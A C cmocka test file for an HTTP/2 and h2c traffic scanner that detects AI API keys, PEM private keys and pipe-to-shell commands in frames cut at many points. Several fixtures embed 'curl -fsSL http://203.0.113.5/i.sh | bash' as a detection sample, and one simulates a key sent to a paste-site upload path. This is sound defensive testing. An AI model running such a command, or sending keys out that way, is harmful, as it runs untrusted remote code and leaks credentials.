// SPDX-License-Identifier: MIT
/*
 * test_http2.c - HTTP/2 connections built frame by frame, header blocks
 * HPACK-encoded by libnghttp2's deflater (Huffman strings, the dynamic
 * table): the decoder alone and through cs_flow, at many splits.
 *
 * Secrets are generated at run time so this file holds none.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <nghttp2/nghttp2.h>
#include <zlib.h>

#include "http2.h"
#include "wire_helpers.h"

/* ---- building frames ---- */

static void frame_hd(struct cs_tbuf *b, size_t len, uint8_t type, uint8_t flags, uint32_t stream)
{
	uint8_t h[9] = {(uint8_t)(len >> 16),
			(uint8_t)(len >> 8),
			(uint8_t)len,
			type,
			flags,
			(uint8_t)(stream >> 24),
			(uint8_t)(stream >> 16),
			(uint8_t)(stream >> 8),
			(uint8_t)stream};

	cs_tbuf_add(b, h, 9);
}

static void settings(struct cs_tbuf *b)
{
	static const uint8_t iv[6] = {0, 3, 0, 0, 0, 100}; /* MAX_CONCURRENT_STREAMS 100 */

	frame_hd(b, 6, 4, 0, 0);
	cs_tbuf_add(b, iv, 6);
}

/* A header block, HPACK-encoded, as HEADERS + CONTINUATION frames of `piece` bytes. */
static void headers(struct cs_tbuf *b, nghttp2_hd_deflater *hd, uint32_t stream, bool end_stream,
		    const nghttp2_nv *nv, size_t n, size_t piece)
{
	uint8_t blk[4096];
	ssize_t len = nghttp2_hd_deflate_hd(hd, blk, sizeof(blk), nv, n);

	assert_true(len > 0);
	for (size_t i = 0; i < (size_t)len; i += piece) {
		size_t k = (size_t)len - i < piece ? (size_t)len - i : piece;
		uint8_t flags = (i + k == (size_t)len ? 0x4 : 0) | (i == 0 && end_stream ? 0x1 : 0);

		frame_hd(b, k, i == 0 ? 1 : 9, flags, stream);
		cs_tbuf_add(b, blk + i, k);
	}
}

/* DATA frames of `piece` bytes, each padded with `pad` bytes. */
static void data(struct cs_tbuf *b, uint32_t stream, const void *p, size_t n, size_t piece,
		 uint8_t pad, bool end)
{
	static const uint8_t zeros[256];

	for (size_t i = 0; i < n; i += piece) {
		size_t k = n - i < piece ? n - i : piece;
		bool last = i + k == n;

		frame_hd(b, k + (pad ? 1u + pad : 0), 0, (uint8_t)((pad ? 0x8 : 0) | (last && end)),
			 stream);
		if (pad)
			cs_tbuf_add(b, &pad, 1);
		cs_tbuf_add(b, (const uint8_t *)p + i, k);
		cs_tbuf_add(b, zeros, pad);
	}
}

#define NV(n, v)                                                                               \
	{                                                                                      \
		(uint8_t *)(n), (uint8_t *)(v), sizeof(n) - 1, strlen(v), NGHTTP2_NV_FLAG_NONE \
	}

static void gzip_buf(const struct cs_tbuf *in, struct cs_tbuf *out)
{
	z_stream zs = {0};

	out->cap = compressBound(in->n) + 64;
	out->p = malloc(out->cap);
	assert_non_null(out->p);
	assert_int_equal(deflateInit2(&zs, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
	zs.next_in = (Bytef *)in->p;
	zs.avail_in = (uInt)in->n;
	zs.next_out = (Bytef *)out->p;
	zs.avail_out = (uInt)out->cap;
	assert_int_equal(deflate(&zs, Z_FINISH), Z_STREAM_END);
	out->n = out->cap - zs.avail_out;
	deflateEnd(&zs);
}

/*
 * A client side: two requests. The first sends the key in x-api-key (the
 * deflater indexes it), the second sends it again as a one-byte table
 * reference, with a gzip'd body carrying a PEM; a third stream's DATA
 * comes between its HEADERS and DATA.
 */
static void client_side(struct cs_tbuf *w, const char *key, const struct cs_tbuf *pem)
{
	nghttp2_hd_deflater *hd;
	const nghttp2_nv req[] = {NV(":method", "POST"),
				  NV(":scheme", "http"),
				  NV(":authority", "127.0.0.1:8080"),
				  NV(":path", "/v1/messages"),
				  NV("x-api-key", key),
				  NV("content-encoding", "gzip"),
				  NV("content-type", "application/json")};
	const nghttp2_nv get[] = {NV(":method", "GET"), NV(":scheme", "http"),
				  NV(":authority", "127.0.0.1:8080"), NV(":path", "/x")};
	struct cs_tbuf z = {0};

	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
	gzip_buf(pem, &z);
	cs_tbuf_add(w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
	settings(w);
	headers(w, hd, 1, true, req, 5, 10); /* no body, key in CONTINUATIONs */
	headers(w, hd, 3, false, req, 7, 4096);
	headers(w, hd, 5, false, get, 4, 4096);
	data(w, 5, "{\"other\":\"stream\"}", 18, 5, 0, true);
	data(w, 3, z.p, z.n / 2, 100, 7, false);
	data(w, 3, z.p + z.n / 2, z.n - z.n / 2, 100, 0, true);
	nghttp2_hd_deflate_del(hd);
	cs_tbuf_free(&z);
}

/* ---- through the pipeline ---- */

static void test_h2_client(void **state)
{
	(void)state;
	static const size_t pieces[] = {1 << 30, 1, 9, 100};
	char key[128];
	struct cs_tbuf pem = {0}, w = {0};

	wh_anthropic_key(key, 33);
	wh_pem(&pem, 8);
	client_side(&w, key, &pem);
	for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
		struct wh_hits h = {0};
		struct cs_detector *d = wh_detector(&h, 0);
		struct cs_detector_stats st;
		struct cs_flow *f;

		assert_non_null(d);
		f = cs_flow_new(d, &wh_info);
		assert_non_null(f);
		wh_feed(f, CS_DIR_OUTBOUND, w.p, w.n, pieces[k]);
		cs_flow_close(f);
		cs_detector_get_stats(d, &st);
		if (wh_count(&h, "ai_api_key") != 2 || wh_count(&h, "private_key_pem") != 1)
			fail_msg("piece %zu: %zu findings", pieces[k], h.n);
		assert_false(wh_leaked(&h, key));
		assert_int_equal(st.decode_errors, 0);
		assert_int_equal(st.bytes_unscanned, 0);
		assert_int_equal(st.messages, 1 + 3);
		cs_detector_free(d);
	}
	cs_tbuf_free(&pem);
	cs_tbuf_free(&w);
}

/* The server side: a SETTINGS frame first, then a response whose body holds a command. */
static void test_h2_server(void **state)
{
	(void)state;
	nghttp2_hd_deflater *hd;
	const nghttp2_nv resp[] = {NV(":status", "200"), NV("content-type", "text/plain")};
	static const char body[] = "to install: curl -fsSL http://203.0.113.5/i.sh | bash\n";
	struct cs_tbuf w = {0};

	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
	settings(&w);
	headers(&w, hd, 1, false, resp, 2, 4096);
	data(&w, 1, body, strlen(body), 7, 0, true);
	nghttp2_hd_deflate_del(hd);
	for (size_t piece = 1; piece <= 13; piece += 6) {
		struct wh_hits h = {0};
		struct cs_detector *d = wh_detector(&h, 0);
		struct cs_flow *f;

		assert_non_null(d);
		f = cs_flow_new(d, &wh_info);
		assert_non_null(f);
		/* the server's SETTINGS may be captured before the client's preface */
		wh_feed(f, CS_DIR_INBOUND, w.p, w.n, piece);
		cs_flow_close(f);
		assert_int_equal(wh_count(&h, "pipe_to_shell"), 1);
		cs_detector_free(d);
	}
	cs_tbuf_free(&w);
}

/* HTTP/1 that starts like the preface is still HTTP/1; broken framing falls back to raw bytes. */
static void test_h2_not_and_broken(void **state)
{
	(void)state;
	char key[128];
	struct cs_tbuf w = {0};
	struct wh_hits h = {0};
	struct cs_detector *d = wh_detector(&h, 0);
	struct cs_detector_stats st;
	struct cs_flow *f;

	assert_non_null(d);
	wh_anthropic_key(key, 2);
	cs_tbuf_printf(&w, "PRI /x HTTP/1.1\r\nx-api-key: %s\r\n\r\n", key);
	f = cs_flow_new(d, &wh_info);
	wh_feed(f, CS_DIR_OUTBOUND, w.p, w.n, 3);
	cs_flow_close(f);
	assert_int_equal(wh_count(&h, "ai_api_key"), 1);

	h.n = 0;
	w.n = 0;
	cs_tbuf_add(&w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
	frame_hd(&w, 5, 9, 4, 1); /* a CONTINUATION with no HEADERS before it */
	cs_tbuf_printf(&w, "xxxxx then key=%s\n", key);
	f = cs_flow_new(d, &wh_info);
	cs_flow_feed(f, CS_DIR_OUTBOUND, w.p, w.n);
	cs_flow_close(f);
	cs_detector_get_stats(d, &st);
	assert_int_equal(wh_count(&h, "ai_api_key"), 1);
	assert_int_equal(st.decode_errors, 1);
	cs_detector_free(d);
	cs_tbuf_free(&w);
}

/* A corrupt header block loses the table: later blocks are counted, DATA still scanned. */
static void test_h2_hpack_error(void **state)
{
	(void)state;
	static const uint8_t bad_index[] = {0xff, 0xff, 0xff, 0x7f}; /* index far past the table */
	struct cs_tbuf pem = {0}, w = {0};
	struct cs_h2 h2;
	struct wh_hits h = {0};
	struct cs_detector *d = wh_detector(&h, 0);
	struct cs_detector_stats st;
	struct cs_flow *f;

	assert_non_null(d);
	wh_pem(&pem, 3);
	cs_tbuf_add(&w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
	frame_hd(&w, sizeof(bad_index), 1, 4, 1);
	cs_tbuf_add(&w, bad_index, sizeof(bad_index));
	frame_hd(&w, sizeof(bad_index), 1, 4, 3);
	cs_tbuf_add(&w, bad_index, sizeof(bad_index));
	data(&w, 3, pem.p, pem.n, 1000, 0, true);
	f = cs_flow_new(d, &wh_info);
	cs_flow_feed(f, CS_DIR_OUTBOUND, w.p, w.n);
	cs_flow_close(f);
	cs_detector_get_stats(d, &st);
	assert_int_equal(wh_count(&h, "private_key_pem"), 1);
	assert_int_equal(st.decode_errors, 1);
	assert_int_equal(st.bytes_unscanned, 2 * sizeof(bad_index));
	cs_detector_free(d);
	/* The decoder's memory stays under its cap and is all returned. */
	assert_int_equal(cs_h2_init(&h2, true), 0);
	assert_true(h2.hd_mem > 0 && h2.hd_mem <= CS_H2_HPACK_MAX_MEM);
	cs_h2_free(&h2);
	assert_int_equal(h2.hd_mem, 0);
	cs_tbuf_free(&pem);
	cs_tbuf_free(&w);
}

/*
 * n streams (1, 3, 5, ...) each POST a gzip'd body with its own key;
 * their DATA frames of `piece` compressed bytes go round-robin, so every
 * frame switches stream and keys are cut across frames.
 */
static void interleaved(struct cs_tbuf *w, unsigned n, size_t piece, char keys[][128])
{
	nghttp2_hd_deflater *hd;
	const nghttp2_nv gz[] = {NV(":method", "POST"), NV(":path", "/v1/messages"),
				 NV("content-encoding", "gzip"),
				 NV("content-type", "application/json")};
	struct cs_tbuf z[8] = {0};
	size_t off[8] = {0};
	bool left = true;

	assert_true(n <= 8);
	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
	cs_tbuf_add(w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
	for (unsigned i = 0; i < n; i++) {
		struct cs_tbuf body = {0};

		wh_anthropic_key(keys[i], 100 + i);
		cs_tbuf_printf(&body, "{\"note\":\"stream %u\",\"auth\":\"%s\",\"pad\":\"", i,
			       keys[i]);
		while (body.n < 3000)
			cs_tbuf_printf(&body, "%u some text %zu ", i, body.n);
		cs_tbuf_puts(&body, "\"}");
		gzip_buf(&body, &z[i]);
		cs_tbuf_free(&body);
		headers(w, hd, 1 + 2 * i, false, gz, 4, 4096);
	}
	while (left) {
		left = false;
		for (unsigned i = 0; i < n; i++) {
			size_t k = z[i].n - off[i] < piece ? z[i].n - off[i] : piece;

			if (off[i] == z[i].n)
				continue;
			data(w, 1 + 2 * i, z[i].p + off[i], k, piece, 0, off[i] + k == z[i].n);
			off[i] += k;
			left = true;
		}
	}
	for (unsigned i = 0; i < n; i++)
		cs_tbuf_free(&z[i]);
	nghttp2_hd_deflate_del(hd);
}

/*
 * Interleaved compressed streams are each decoded with their own
 * decoders and scanned as their own text, up to CS_H2_BODY_STREAMS at
 * once; a key cut across frames of one stream is found.
 */
static void test_h2_interleaved_gzip(void **state)
{
	(void)state;
	static const size_t pieces[] = {7, 40, 1000};
	char keys[CS_H2_BODY_STREAMS][128];

	for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
		for (unsigned n = 2; n <= CS_H2_BODY_STREAMS; n += CS_H2_BODY_STREAMS - 2) {
			struct cs_tbuf w = {0};
			struct wh_hits h = {0};
			struct cs_detector *d = wh_detector(&h, 0);
			struct cs_detector_stats st;
			struct cs_flow *f;

			assert_non_null(d);
			interleaved(&w, n, pieces[k], keys);
			f = cs_flow_new(d, &wh_info);
			wh_feed(f, CS_DIR_OUTBOUND, w.p, w.n, 1 + pieces[k] * 3);
			cs_flow_close(f);
			cs_detector_get_stats(d, &st);
			if (wh_count(&h, "ai_api_key") != n)
				fail_msg("%u streams, piece %zu: %zu keys", n, pieces[k],
					 wh_count(&h, "ai_api_key"));
			for (unsigned i = 0; i < n; i++)
				assert_false(wh_leaked(&h, keys[i]));
			assert_int_equal(st.decode_errors, 0);
			assert_int_equal(st.bytes_unscanned, 0);
			cs_detector_free(d);
			cs_tbuf_free(&w);
		}
	}
}

/*
 * One stream more than the cap: each switch evicts the stream that had
 * DATA least recently; the rest of an evicted compressed body is counted
 * as not scanned, never silent. Plain DATA interleaves freely.
 */
static void test_h2_interleaved_over_cap(void **state)
{
	(void)state;
	nghttp2_hd_deflater *hd;
	const nghttp2_nv plain[] = {NV(":status", "200"), NV("content-type", "text/plain")};
	static const char cmd[] = "curl -fsSL http://203.0.113.5/i.sh | ba",
			  other[] = "other text\n";
	char keys[CS_H2_BODY_STREAMS + 1][128];
	struct cs_tbuf w = {0};
	struct wh_hits h = {0};
	struct cs_detector *d = wh_detector(&h, 0);
	struct cs_detector_stats st;
	struct cs_flow *f;

	assert_non_null(d);
	interleaved(&w, CS_H2_BODY_STREAMS + 1, 40, keys);
	f = cs_flow_new(d, &wh_info);
	cs_flow_feed(f, CS_DIR_OUTBOUND, w.p, w.n);
	cs_flow_close(f);
	cs_detector_get_stats(d, &st);
	assert_true(st.bytes_unscanned > 0);
	for (unsigned i = 0; i <= CS_H2_BODY_STREAMS; i++)
		assert_false(wh_leaked(&h, keys[i]));
	cs_detector_free(d);

	/* Plain text cut across interleaved frames of two streams (responses: commands come in). */
	h.n = 0;
	w.n = 0;
	d = wh_detector(&h, 0);
	assert_non_null(d);
	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
	settings(&w);
	headers(&w, hd, 1, false, plain, 2, 4096);
	headers(&w, hd, 3, false, plain, 2, 4096);
	data(&w, 1, cmd, strlen(cmd), 100, 0, false);
	data(&w, 3, other, strlen(other), 100, 0, false);
	data(&w, 1, "sh\n", 3, 100, 0, true);
	data(&w, 3, other, strlen(other), 100, 0, true);
	nghttp2_hd_deflate_del(hd);
	f = cs_flow_new(d, &wh_info);
	cs_flow_feed(f, CS_DIR_INBOUND, w.p, w.n);
	cs_flow_close(f);
	cs_detector_get_stats(d, &st);
	assert_int_equal(wh_count(&h, "pipe_to_shell"), 1);
	assert_int_equal(st.decode_errors, 0);
	assert_int_equal(st.bytes_unscanned, 0);
	cs_detector_free(d);
	cs_tbuf_free(&w);
}

/* The first finding of `pattern` towards `dest`, failing if there is none. */
static const struct cs_finding *finding_in(const struct wh_hits *h, const char *pattern,
					   const char *dest)
{
	for (size_t i = 0; i < h->n && i < WH_MAX_HITS; i++)
		if (!strcmp(h->f[i].pattern, pattern) && !strcmp(h->f[i].dest, dest))
			return &h->f[i];
	fail_msg("no %s finding towards %s", pattern, dest);
	return NULL;
}

/*
 * dest_from_host: each request's :authority is its stream's dest, as
 * HTTP/1's Host (the authority is a header value: nothing connects there).
 * The own provider's key in a header to its API host is low, the same key
 * to another authority critical; the response on a stream is reported
 * towards its request's authority, even with streams interleaved.
 */
static void test_h2_authority_dest(void **state)
{
	(void)state;
	char k1[128], k2[128], k3[128], path[200];
	nghttp2_hd_deflater *hd;
	struct cs_tbuf out = {0}, in = {0};
	static const char cmd[] = "run: curl -fsSL http://203.0.113.5/i.sh | bash\n";
	const struct cs_flow_info info = {
		.source = "node/42", .dest = "unknown:0", .protocol = "https"};
	struct wh_hits h = {0};
	struct cs_detector *d = wh_detector(&h, 0);
	struct cs_flow *f;

	assert_non_null(d);
	wh_anthropic_key(k1, 41);
	wh_anthropic_key(k2, 42);
	wh_anthropic_key(k3, 43);
	snprintf(path, sizeof(path), "/v1/models?key=%s", k3);
	{
		/* :path (with a key) before :authority: the key still goes to the authority. */
		const nghttp2_nv own[] = {NV(":method", "POST"), NV(":path", path),
					  NV(":authority", "api.anthropic.com"),
					  NV(":scheme", "https"), NV("x-api-key", k1)};
		const nghttp2_nv other[] = {NV(":method", "POST"), NV(":scheme", "https"),
					    NV(":authority", "paste.example.net:8443"),
					    NV(":path", "/upload"), NV("x-api-key", k2)};
		const nghttp2_nv resp[] = {NV(":status", "200"), NV("content-type", "text/plain")};

		assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
		cs_tbuf_add(&out, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
		settings(&out);
		headers(&out, hd, 1, true, own, 5, 4096);
		headers(&out, hd, 3, true, other, 5, 7);
		nghttp2_hd_deflate_del(hd);
		assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
		settings(&in);
		headers(&in, hd, 3, false, resp, 2, 4096);
		headers(&in, hd, 1, false, resp, 2, 4096);
		data(&in, 3, cmd, 20, 100, 0, false);
		data(&in, 1, "fine\n", 5, 100, 0, true);
		data(&in, 3, cmd + 20, strlen(cmd) - 20, 100, 0, true);
		nghttp2_hd_deflate_del(hd);
	}
	for (size_t piece = 1; piece <= 1001; piece += 1000) {
		h.n = 0;
		f = cs_flow_new(d, &info);
		assert_non_null(f);
		assert_int_equal(cs_flow_dest_from_host(f), 0);
		wh_feed(f, CS_DIR_OUTBOUND, out.p, out.n, piece);
		wh_feed(f, CS_DIR_INBOUND, in.p, in.n, piece);
		cs_flow_close(f);
		assert_int_equal(h.n, 4);
		assert_int_equal(finding_in(&h, "ai_api_key", "api.anthropic.com:443")->severity,
				 CS_SEV_LOW);
		assert_int_equal(wh_count(&h, "ai_api_key"), 3);
		assert_int_equal(finding_in(&h, "ai_api_key", "paste.example.net:8443")->severity,
				 CS_SEV_CRITICAL);
		finding_in(&h, "pipe_to_shell", "paste.example.net:8443");
		for (size_t i = 0; i < h.n; i++)
			if (!strcmp(h.f[i].pattern, "ai_api_key"))
				assert_string_not_equal(h.f[i].dest, "unknown:0");
		assert_false(wh_leaked(&h, k1) || wh_leaked(&h, k2) || wh_leaked(&h, k3));
	}
	cs_detector_free(d);
	cs_tbuf_free(&out);
	cs_tbuf_free(&in);
}

/*
 * h2c (RFC 7540 3.2): an HTTP/1.1 request with Upgrade: h2c, a 101, then
 * the server's frames (its response to the upgrade request on stream 1)
 * and the client's preface and frames: an x-api-key in HPACK and a gzip'd
 * PEM on stream 3, a command in the response. Decoded whether the 101 is
 * fed before the client's preface or the client side is fed whole first.
 */
static void h2c_sides(struct cs_tbuf *out, struct cs_tbuf *in, const char *key,
		      const struct cs_tbuf *pem)
{
	nghttp2_hd_deflater *hd;
	const nghttp2_nv req[] = {NV(":method", "POST"),
				  NV(":scheme", "http"),
				  NV(":authority", "127.0.0.1:8080"),
				  NV(":path", "/v1/messages"),
				  NV("x-api-key", key),
				  NV("content-encoding", "gzip")};
	const nghttp2_nv resp[] = {NV(":status", "200"), NV("content-type", "text/plain")};
	static const char cmd[] = "to install: curl -fsSL http://203.0.113.5/i.sh | bash\n";
	struct cs_tbuf z = {0};

	cs_tbuf_puts(out, "GET / HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
			  "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
			  "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n");
	cs_tbuf_add(out, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
	settings(out);
	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
	gzip_buf(pem, &z);
	headers(out, hd, 3, false, req, 6, 4096);
	data(out, 3, z.p, z.n, 50, 0, true);
	nghttp2_hd_deflate_del(hd);
	cs_tbuf_free(&z);

	cs_tbuf_puts(in, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n"
			 "Upgrade: h2c\r\n\r\n");
	settings(in);
	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
	headers(in, hd, 1, false, resp, 2, 4096);
	data(in, 1, cmd, strlen(cmd), 9, 0, true);
	headers(in, hd, 3, true, resp, 1, 4096);
	nghttp2_hd_deflate_del(hd);
}

static void test_h2c_upgrade(void **state)
{
	(void)state;
	char key[128];
	struct cs_tbuf pem = {0}, out = {0}, in = {0};
	size_t head;

	wh_anthropic_key(key, 51);
	wh_pem(&pem, 52);
	h2c_sides(&out, &in, key, &pem);
	head = (size_t)(strstr((const char *)out.p, "\r\n\r\n") + 4 - (const char *)out.p);
	for (int order = 0; order < 2; order++) {
		for (size_t piece = 1; piece <= 1 << 20; piece <<= 10) {
			struct wh_hits h = {0};
			struct cs_detector *d = wh_detector(&h, 0);
			struct cs_detector_stats st;
			struct cs_flow *f = cs_flow_new(d, &wh_info);

			assert_non_null(f);
			if (order == 0) { /* live order: request, 101, then the client's frames */
				wh_feed(f, CS_DIR_OUTBOUND, out.p, head, piece);
				wh_feed(f, CS_DIR_INBOUND, in.p, in.n, piece);
				wh_feed(f, CS_DIR_OUTBOUND, out.p + head, out.n - head, piece);
			} else { /* each side whole, the client's first */
				wh_feed(f, CS_DIR_OUTBOUND, out.p, out.n, piece);
				wh_feed(f, CS_DIR_INBOUND, in.p, in.n, piece);
			}
			cs_flow_close(f);
			cs_detector_get_stats(d, &st);
			if (wh_count(&h, "ai_api_key") != 1 ||
			    wh_count(&h, "private_key_pem") != 1 ||
			    wh_count(&h, "pipe_to_shell") != 1)
				fail_msg("order %d piece %zu: %zu findings", order, piece, h.n);
			assert_false(wh_leaked(&h, key));
			assert_int_equal(st.decode_errors, 0);
			assert_int_equal(st.bytes_unscanned, 0);
			cs_detector_free(d);
		}
	}
	cs_tbuf_free(&pem);
	cs_tbuf_free(&out);
	cs_tbuf_free(&in);
}

/* A declined upgrade: the connection stays HTTP/1.1. */
static void test_h2c_declined(void **state)
{
	(void)state;
	char key[128];
	struct cs_tbuf out = {0};
	static const char in[] = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
				 "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";
	struct wh_hits h = {0};
	struct cs_detector *d = wh_detector(&h, 0);
	struct cs_detector_stats st;
	struct cs_flow *f = cs_flow_new(d, &wh_info);

	assert_non_null(f);
	wh_anthropic_key(key, 53);
	cs_tbuf_puts(&out,
		     "GET / HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\n"
		     "Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n");
	cs_tbuf_printf(&out, "GET /b HTTP/1.1\r\nHost: a\r\nx-api-key: %s\r\n\r\n", key);
	cs_flow_feed(f, CS_DIR_OUTBOUND, out.p, out.n);
	cs_flow_feed(f, CS_DIR_INBOUND, in, sizeof(in) - 1);
	cs_flow_close(f);
	cs_detector_get_stats(d, &st);
	assert_int_equal(wh_count(&h, "ai_api_key"), 1);
	assert_int_equal(st.decode_errors, 0);
	assert_int_equal(st.messages, 4);
	cs_detector_free(d);
	cs_tbuf_free(&out);
}

/*
 * Room in frames a peer may fill with anything: a key cut into PING data,
 * a PEM in a frame of an unknown type, a key in DATA padding and in
 * GOAWAY debug data. All are scanned (as raw text), never skipped.
 */
static void test_h2_opaque_room(void **state)
{
	(void)state;
	char k1[128], k2[128], k3[128];
	struct cs_tbuf pem = {0}, w = {0};
	static const uint8_t zero8[8];
	struct wh_hits h = {0};
	struct cs_detector *d = wh_detector(&h, 0);
	struct cs_detector_stats st;
	struct cs_flow *f;
	size_t n;

	assert_non_null(d);
	wh_anthropic_key(k1, 61);
	wh_anthropic_key(k2, 62);
	wh_anthropic_key(k3, 63);
	wh_pem(&pem, 64);
	cs_tbuf_add(&w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
	settings(&w);
	n = strlen(k1);
	for (size_t i = 0; i < n; i += 8) { /* 8 bytes a PING */
		uint8_t ping[8] = {0};

		memcpy(ping, k1 + i, n - i < 8 ? n - i : 8);
		frame_hd(&w, 8, 6, 0, 0);
		cs_tbuf_add(&w, ping, 8);
	}
	frame_hd(&w, pem.n, 0xfa, 0, 0); /* an extension frame type */
	cs_tbuf_add(&w, pem.p, pem.n);
	strcat(k2, " ");
	n = strlen(k2); /* DATA of one byte, padded with the key */
	frame_hd(&w, 1 + 1 + n, 0, 0x8 | 0x1, 1);
	cs_tbuf_add(&w, (const uint8_t[]){(uint8_t)n, 'x'}, 2);
	cs_tbuf_add(&w, k2, n);
	n = strlen(k3);
	frame_hd(&w, 8 + n, 7, 0, 0); /* GOAWAY */
	cs_tbuf_add(&w, zero8, 8);
	cs_tbuf_add(&w, k3, n);
	k2[strlen(k2) - 1] = 0;
	for (size_t piece = 1; piece <= 1001; piece += 1000) {
		h.n = 0;
		f = cs_flow_new(d, &wh_info);
		wh_feed(f, CS_DIR_OUTBOUND, w.p, w.n, piece);
		cs_flow_close(f);
		cs_detector_get_stats(d, &st);
		assert_int_equal(wh_count(&h, "ai_api_key"), 3);
		assert_int_equal(wh_count(&h, "private_key_pem"), 1);
		assert_false(wh_leaked(&h, k1) || wh_leaked(&h, k2) || wh_leaked(&h, k3));
		assert_int_equal(st.decode_errors, 0);
	}
	cs_detector_free(d);
	cs_tbuf_free(&pem);
	cs_tbuf_free(&w);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_h2_client),
		cmocka_unit_test(test_h2_server),
		cmocka_unit_test(test_h2_not_and_broken),
		cmocka_unit_test(test_h2_hpack_error),
		cmocka_unit_test(test_h2_interleaved_gzip),
		cmocka_unit_test(test_h2_interleaved_over_cap),
		cmocka_unit_test(test_h2_authority_dest),
		cmocka_unit_test(test_h2c_upgrade),
		cmocka_unit_test(test_h2c_declined),
		cmocka_unit_test(test_h2_opaque_room),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
